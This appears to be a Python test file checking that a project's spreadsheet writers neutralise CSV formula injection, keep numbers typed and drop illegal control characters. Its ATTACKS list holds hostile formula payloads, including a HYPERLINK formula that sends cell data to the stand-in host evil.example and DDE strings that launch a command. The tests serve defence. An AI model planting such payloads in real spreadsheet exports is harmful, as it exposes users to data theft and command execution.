"""Spreadsheet output cannot carry a formula (CSV injection), and numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import numpy as np
import pytest

from baton.core.spreadsheets import CsvDictWriter, csv_writer, safe_cell, safe_row

BATON = Path(__file__).resolve().parents[2]

ATTACKS = [
    '=HYPERLINK("https://evil.example/?d="&A2,"Click for details")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    " =1+1",  # importers that trim spaces first
    "\n=1+1",
    "-",
    "-1,000",
    "-5%",
    "-inf",
    "+44 7700 900123",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_text_that_a_spreadsheet_would_read_as_a_formula_gets_a_leading_quote(value):
    assert safe_cell(value) == "'" + value.replace("\0", "")  # NUL is left out (no cell holds it)


@pytest.mark.parametrize("value", ["-3", "-0.5", "+2", "-1.5e3", "-.5", " -3 ", "0", "12.50"])
def test_a_plain_number_written_as_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    "value",
    [-3, -0.5, 0, True, None, Decimal("-2.5"), np.int64(-4), np.float32(-1.5), dt.date(2026, 11, 26), dt.time(9, 0)],
)
def test_numbers_dates_and_none_are_unchanged_and_keep_their_type(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("value", ["", "The crew were kind", "3 hours", "'already quoted", "a=b", "e-mail", "−3"])
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


def test_other_objects_are_checked_as_the_text_csv_would_write():
    class Sneaky:
        def __str__(self):
            return "=cmd"

    assert safe_cell(Sneaky()) == "'=cmd"


def test_safe_row_is_the_rule_for_openpyxl_rows():
    day = dt.date(2026, 11, 26)
    assert safe_row(["=1+1", -3, "-3", day, None]) == ["'=1+1", -3, "-3", day, None]


def test_csv_writer_neutralises_every_cell_and_quotes_text():
    buf = io.StringIO()
    w = csv_writer(buf)
    w.writerow(["comment_id", "comment", "sentiment", "change"])
    w.writerows([['=HYPERLINK("x")', "@SUM(A1)", -3, "-3"], ["+cmd", 'said "hi"', 2, "-0.5"]])
    raw = buf.getvalue().splitlines()
    assert raw[1] == '"\'=HYPERLINK(""x"")","\'@SUM(A1)",-3,"-3"'  # text quoted, numbers bare
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows[1] == ['\'=HYPERLINK("x")', "'@SUM(A1)", "-3", "-3"]
    assert rows[2] == ["'+cmd", 'said "hi"', "2", "-0.5"]


def test_text_is_quoted_so_a_semicolon_reader_keeps_it_in_one_cell():
    buf = io.StringIO()
    csv_writer(buf).writerow(["x;=1+1"])
    assert list(csv.reader(io.StringIO(buf.getvalue()), delimiter=";")) == [["x;=1+1"]]


def test_csv_dict_writer_neutralises_the_header_and_the_rows():
    buf = io.StringIO()
    w = CsvDictWriter(buf, ["id", "=total"])
    w.writeheader()
    w.writerow({"id": "@evil", "=total": -3})
    w.writerows([{"id": "fine", "=total": 4}])
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [["id", "'=total"], ["'@evil", "-3"], ["fine", "4"]]


def test_csv_writer_writes_to_a_django_response():
    from django.http import HttpResponse

    response = HttpResponse(content_type="text/csv")
    csv_writer(response).writerow(["=1+1", 5])
    assert response.content == b'"\'=1+1",5\r\n'


def test_the_module_does_not_import_django():
    code = "import sys, baton.core.spreadsheets; print('django' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False"


def test_every_spreadsheet_baton_writes_goes_through_the_safe_writers():
    """Guard: no module writes CSV with the bare csv module, and any module that uses openpyxl also
    uses safe_cell or safe_row. (Tests may write input files however they like.)"""
    bare_csv = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = []
    for path in BATON.rglob("*.py"):
        rel = path.relative_to(BATON)
        if "tests" in rel.parts or rel.parts[-1] == "spreadsheets.py" or "migrations" in rel.parts:
            continue
        text = path.read_text(encoding="utf-8")
        if bare_csv.search(text):
            offenders.append(f"{rel}: csv.writer/DictWriter (use baton.core.spreadsheets.csv_writer)")
        if "openpyxl" in text and not re.search(r"\bsafe_(cell|row)\b", text):
            offenders.append(f"{rel}: openpyxl without safe_cell/safe_row")
    assert offenders == []


def test_control_characters_a_spreadsheet_cannot_hold_are_left_out():
    """A pasted comment with a vertical tab or a form feed once failed the whole feedback export
    (openpyxl's IllegalCharacterError, a 500): they are left out, the rest of the text kept."""
    import io

    from openpyxl import Workbook, load_workbook

    text = "Waited\x0b 15-30 minutes\x0c\x00 for a call"
    assert safe_cell(text) == "Waited 15-30 minutes for a call"
    assert safe_cell("\x00=1+1") == "'=1+1"
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append([safe_cell(text)])
    out = io.BytesIO()
    book.save(out)
    assert load_workbook(io.BytesIO(out.getvalue())).active["A1"].value == "Waited 15-30 minutes for a call"
